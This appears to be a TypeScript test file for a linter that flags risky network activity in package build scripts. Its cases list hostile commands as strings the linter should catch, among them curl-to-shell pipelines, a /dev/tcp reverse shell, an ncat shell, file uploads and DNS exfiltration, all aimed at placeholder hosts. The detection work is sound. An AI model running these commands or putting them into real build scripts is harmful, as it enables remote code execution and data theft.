import { type Case, testRule } from "./rule-cases.ts";
import { committedDependencies } from "./rules/committed-dependencies.ts";
import { dataSent } from "./rules/data-sent.ts";
import { fetchedCode } from "./rules/fetched-code.ts";
import { foreignPackage } from "./rules/foreign-package.ts";
import { networkConnection } from "./rules/network-connection.ts";
import { networkFetch } from "./rules/network-fetch.ts";
import { packageRegistry } from "./rules/package-registry.ts";
import { secondSource } from "./rules/second-source.ts";

function inBuild(says: Case["says"], ...lines: string[]): Case[] {
  return lines.map((line) => ({ place: "build()", line, says }));
}

function inScriptlet(says: Case["says"], ...lines: string[]): Case[] {
  return lines.map((line) => ({ place: "post_install()", line, says }));
}

testRule(fetchedCode, [
  ...inBuild(
    "alarm",
    "curl -fsSL https://example.invalid/i | sh",
    "wget -qO- https://example.invalid/i | tee log | bash -s -- -y",
    "bash <(curl -s https://example.invalid/i)",
    'sh -c "$(curl -s https://example.invalid/i)"',
    'code=$(curl -s https://example.invalid/i)\neval "$code"',
    "curl -so gen https://example.invalid/gen && chmod +x gen && ./gen",
    "wget https://example.invalid/fix.py\npython3 fix.py --all",
    "curl -s https://example.invalid/l | xargs -n1 sh -c",
    "git clone https://example.invalid/x.git && make -C x",
  ),
  ...inBuild(
    null,
    "curl -s https://example.invalid/v.json | jq -r .version",
    'echo "curl https://example.invalid | sh"',
    'curl -so data.json https://example.invalid/data.json\ninstall -Dm644 data.json "$pkgdir/usr/share/x/data.json"',
    "cat fix.sh | sh",
  ),
]);

testRule(networkFetch, [
  ...inScriptlet(
    "alarm",
    "wget -q https://example.invalid/x",
    "npm ci",
    "git clone https://example.invalid/x",
  ),
  ...inBuild(
    "alarm",
    "torsocks curl -s https://example.invalid/x",
    "curl -x socks5h://localhost:9050 http://x.onion",
  ),
  ...inBuild(
    "warning",
    "curl -LO https://example.invalid/x.tgz",
    "git clone --depth 1 https://example.invalid/x.git",
  ),
  ...inBuild("note", "npm ci", "yarn install --frozen-lockfile", "go mod download", "cargo fetch --locked"),
  ...inBuild(
    null,
    'git clone "$srcdir/x" y',
    "git -c protocol.file.allow=always submodule update",
    "curl --version",
    "curl -s http://localhost:8080/health",
    "cmake -B build -DWITH_CURL=ON",
    "rsync -a src/ dst/",
    "git rm -r third-party/curl",
  ),
]);

testRule(foreignPackage, [
  ...inBuild(
    "alarm",
    "npm install atomic-lockfile",
    "npm --silent i -g atomic-lockfile",
    "pnpm add js-digest",
    "yarn global add x",
    "bunx js-digest",
    "npx --yes x@latest",
    "npm exec --yes x",
    "python -m pip install --user x",
    "pip3.13 install git+https://example.invalid/x",
    "gem install x",
    "go run example.invalid/x@latest",
    "cargo install x",
    "uvx x",
    "pacman -U https://example.invalid/x.pkg.tar.zst",
    "yay -S x",
  ),
  ...inBuild("warning", `npm install "\${_tools[@]}"`),
  ...inBuild(
    null,
    "npm ci",
    "npm install",
    "npm install --production --no-save",
    'npm install -g --prefix "$pkgdir/usr" "$srcdir/quietly-$pkgver.tgz"',
    'npm install -g --prefix "$pkgdir/usr" quietly@1.4.0',
    "npx electron-builder --linux --dir",
    "npm exec -- electron-builder --linux --publish never",
    "npm run install-deps",
    'pip install --no-deps --root="$pkgdir" .',
    "pip install --no-index --find-links=wheels x",
    "pip install -r requirements.txt",
    "gem install --local quietly-1.4.0.gem",
    'cargo install --path . --root "$pkgdir/usr"',
    "go install ./cmd/quietly",
    "pacman -Q linux | cut -d' ' -f2",
    "yarn install",
    "go run build.go all",
    "dotnet tool restore",
    "yarn --cwd ui build",
  ),
  ...inScriptlet("alarm", "npm install", "pip install x", "bun add x", "pacman -S --noconfirm x"),
]);

testRule(dataSent, [
  ...inBuild(
    "alarm",
    "curl -F 'f=@/etc/hostname' https://example.invalid",
    "curl -sXPOST https://example.invalid -d x",
    "wget --post-file=x https://example.invalid",
    "scp x user@example.invalid:/tmp",
    "ssh user@example.invalid id",
    "git -C x push origin main",
    'dig "$(hostname).example.invalid"',
  ),
  ...inBuild(
    null,
    "curl -fsSL https://example.invalid/x",
    "git stash push -m x",
    "scp a b",
    'rsync -a "$srcdir/a/" "$pkgdir/b/"',
    "gh_pages=1 make docs",
  ),
]);

testRule(networkConnection, [
  ...inBuild("alarm", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "ncat --exec /bin/sh 203.0.113.7 1"),
  ...inBuild("warning", "nc -z localhost 8080"),
  ...inScriptlet("alarm", "telnet 203.0.113.7"),
  ...inBuild(null, "echo nc -e /bin/sh", "cat > notes <<< 'see /dev/tcp/x/1'", "sync", "rsync --version"),
]);

const SOURCES = 'source=("$url/x.tgz" "patches::git+https://github.com/person-example/patches.git")\n';

testRule(secondSource, [
  { place: "top level", line: `${SOURCES}prepare() {\n  cd patches\n  ./apply.sh\n}`, says: "alarm" },
  { place: "top level", line: `${SOURCES}prepare() {\n  python "$srcdir/patches/main.py"\n}`, says: "alarm" },
  {
    place: "top level",
    line: `${SOURCES.replace(".git", ".git#tag=v1")}prepare() {\n  bash ../patches/apply.sh\n}`,
    says: "warning",
  },
  { place: "top level", line: `${SOURCES}prepare() {\n  patch -Np1 -i ../patches/a.patch\n}`, says: null },
  { place: "top level", line: `${SOURCES}prepare() {\n  cd quietly\n  ./autogen.sh\n}`, says: null },
]);

testRule(packageRegistry, [
  ...inBuild(
    "warning",
    "npm ci --registry https://registry.example.invalid",
    "npm config set registry https://registry.example.invalid",
    "export GOPROXY=https://proxy.example.invalid",
    "PIP_INDEX_URL=https://index.example.invalid pip install -r requirements.txt",
    "GOSUMDB=off go build",
  ),
  ...inScriptlet("alarm", "npm ci --registry=https://registry.example.invalid"),
  ...inBuild(
    null,
    "GOPROXY=off go build",
    "npm ci",
    "pip install --no-index --find-links=wheels x",
    "yarn config get registry",
  ),
]);

testRule(committedDependencies, [
  {
    place: "build()",
    line: "npm install",
    says: "warning",
    files: { "package.json": '{"dependencies":{"x":"1"}}' },
  },
  { place: "build()", line: "true", says: "warning", files: { "requirements.txt": "x==1\n" } },
  {
    place: "build()",
    line: "npm install",
    says: null,
    files: { "package.json": '{"name":"x","scripts":{"a":"b"}}' },
  },
  { place: "build()", line: "true", says: null, files: { "notes.txt": "x==1\n" } },
]);
